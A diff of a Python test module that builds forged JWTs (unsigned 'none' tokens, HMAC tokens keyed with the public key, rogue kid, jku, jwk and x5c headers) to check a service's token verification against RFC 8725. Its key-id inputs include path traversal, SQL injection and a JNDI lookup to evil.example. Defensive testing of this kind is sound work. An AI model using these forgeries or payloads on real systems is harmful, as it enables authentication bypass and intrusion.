@@ -1,4 +1,4 @@
-"""Other algorithms, other keys, and keys that a token brings with itself."""
+"""Other algorithms, other keys, and keys that a token contains."""
 
 import base64
 import hmac
@@ -11,12 +11,11 @@ from joserfc import jwt
 from joserfc.jwk import OctKey
 
 from services.kit.web.tokens.service import issue_service_token
-from tests.kit.forgeries.parts import Forgeries, parts, signed, told
-from tests.kit.forging import SECRET, Forge, absent, segment
+from tests.kit.forging import SECRET, Forge, Forgeries, absent, parts, segment, shown
 
 
 def unsigned(forge: Forge, at: datetime) -> Forgeries:
-    """Algorithms that ask for no signature, or for one that nobody made (RFC 8725 section 3.1)."""
+    """Algorithms without a signature, or with an invalid one (RFC 8725 section 3.1)."""
     algorithms: tuple[Any, ...] = (
         *("none", "None", "NONE", "nOnE", "", "null", None, 0, [], {}, ["Ed25519"], True),
         *("HS256", "RS256", "ES256", "PS512", "EdDSA", "Ed448", "ed25519", "ED25519", "Ed25519 ", "Ed25519\0"),
@@ -29,8 +28,8 @@ def unsigned(forge: Forge, at: datetime) -> Forgeries:
     yield "our algorithm, no signature", forge.unsigned("Ed25519")
 
 
-def keyed_with_what_is_public(forge: Forge, at: datetime) -> Forgeries:
-    """The public key, in every form in which it is known, as the secret of an HMAC (RFC 8725 section 2.1)."""
+def with_a_public_secret(forge: Forge, at: datetime) -> Forgeries:
+    """The public key, in all its forms, as the secret of an HMAC (RFC 8725 section 2.1)."""
     public: Any = forge.private_key.public_key
     published = forge.public_key
     secrets = {
@@ -45,55 +44,44 @@ def keyed_with_what_is_public(forge: Forge, at: datetime) -> Forgeries:
     }
     for algorithm in ("HS256", "HS384", "HS512"):
         for name, secret in secrets.items():
-            yield f"{algorithm} with {name}", _keyed(forge, algorithm, secret)
+            yield f"{algorithm} with {name}", _hmac_token(forge, algorithm, secret)
 
 
-def _keyed(forge: Forge, algorithm: str, secret: bytes) -> str:
-    # By hand: joserfc rightly refuses a public key as a secret.
+def _hmac_token(forge: Forge, algorithm: str, secret: bytes) -> str:
+    # joserfc refuses a public key as a secret.
     signing_input = f"{segment(forge.header(alg=algorithm))}.{segment(forge.claims())}"
     digest = hmac.digest(secret, signing_input.encode(), f"sha{algorithm[2:]}")
     return f"{signing_input}.{segment(digest)}"
 
 
 def under_other_key_ids(forge: Forge, at: datetime) -> Forgeries:
-    """Key ids that lead nowhere, or might lead somewhere else (RFC 8725 section 3.10)."""
+    """Unknown key ids, and such as might name another key (RFC 8725 section 3.10)."""
     ids: tuple[Any, ...] = (
+        *(absent, None, "", "key-0", f"{forge.key_id} ", f" {forge.key_id}", forge.key_id.upper() + "-"),
+        *(f"{forge.key_id}\0", "../../../../etc/passwd", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key"),
         *(
-            absent,
-            None,
-            "",
-            "key-0",
-            f"{forge.key_id} ",
-            f" {forge.key_id}",
-            forge.key_id.upper() + "-",
-            f"{forge.key_id}\0",
-        ),
-        *("../../../../etc/passwd", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key", "http://evil.example/key.jwk"),
-        *(
+            "http://evil.example/key.jwk",
             "${jndi:ldap://evil.example/a}",
             "key-1\n",
             "\u0000",
             "\ufeffkey-1",
             "ｋｅｙ-1",
-            0,
-            True,
-            [forge.key_id],
-            {"kid": forge.key_id},
         ),
+        *(0, True, [forge.key_id], {"kid": forge.key_id}),
     )
     stranger = Forge(forge.key_id)
     for key_id in ids:
         header, claims = forge.header(kid=key_id), forge.claims()
-        yield f"kid {told(key_id)}, our signature", signed(forge, header, claims)
-        yield f"kid {told(key_id)}, a stranger's signature", signed(stranger, header, claims)
-    yield "our kid, a stranger's signature", signed(stranger, forge.header(), forge.claims())
+        yield f"kid {shown(key_id)}, our signature", forge.signed(header, claims)
+        yield f"kid {shown(key_id)}, a stranger's signature", stranger.signed(header, claims)
+    yield "our kid, a stranger's signature", stranger.signed(forge.header(), forge.claims())
 
 
-def with_a_key_of_their_own(forge: Forge, at: datetime) -> Forgeries:
-    """Headers that bring their own key, or the address of one (RFC 8725 section 3.10)."""
+def with_their_own_key(forge: Forge, at: datetime) -> Forgeries:
+    """Headers that contain a key, or the address of one (RFC 8725 section 3.10)."""
     stranger = Forge("theirs")
-    certificate = base64.b64encode(b"a certificate of theirs" * 8).decode()
-    brought: dict[str, dict[str, Any]] = {
+    certificate = base64.b64encode(b"a certificate of an attacker" * 8).decode()
+    headers: dict[str, dict[str, Any]] = {
         "jwk": {"jwk": dict(stranger.private_key.as_dict(private=False))},
         "jwk with everything": {"jwk": stranger.public_key},
         "jwk, a secret": {"jwk": {"kty": "oct", "k": segment(b"0" * 32)}},
@@ -105,10 +93,10 @@ def with_a_key_of_their_own(forge: Forge, at: datetime) -> Forgeries:
         "x5t": {"x5t": segment(b"1" * 20)},
         "all of them": {"jku": "https://evil.example/k", "jwk": stranger.public_key, "x5c": [certificate]},
     }
-    for name, more in brought.items():
+    for name, more in headers.items():
         for key_id in (forge.key_id, stranger.key_id, absent):
             header = {**forge.header(kid=key_id), **more}
-            yield f"{name}, kid {told(key_id)}", signed(stranger, header, forge.claims())
+            yield f"{name}, kid {shown(key_id)}", stranger.signed(header, forge.claims())
 
 
 def between_services(forge: Forge, at: datetime) -> Forgeries:
@@ -120,4 +108,7 @@ def between_services(forge: Forge, at: datetime) -> Forgeries:
     for typ in ("service+jwt", "at+jwt"):
         for key_id in (forge.key_id, absent):
             header = forge.header(alg="HS256", typ=typ, kid=key_id)
-            yield f"typ {typ}, kid {told(key_id)}", jwt.encode(header, forge.claims(), secret, algorithms=["HS256"])
+            yield f"typ {typ}, kid {shown(key_id)}", jwt.encode(header, forge.claims(), secret, algorithms=["HS256"])
+
+
+KINDS = (unsigned, with_a_public_secret, under_other_key_ids, with_their_own_key, between_services)
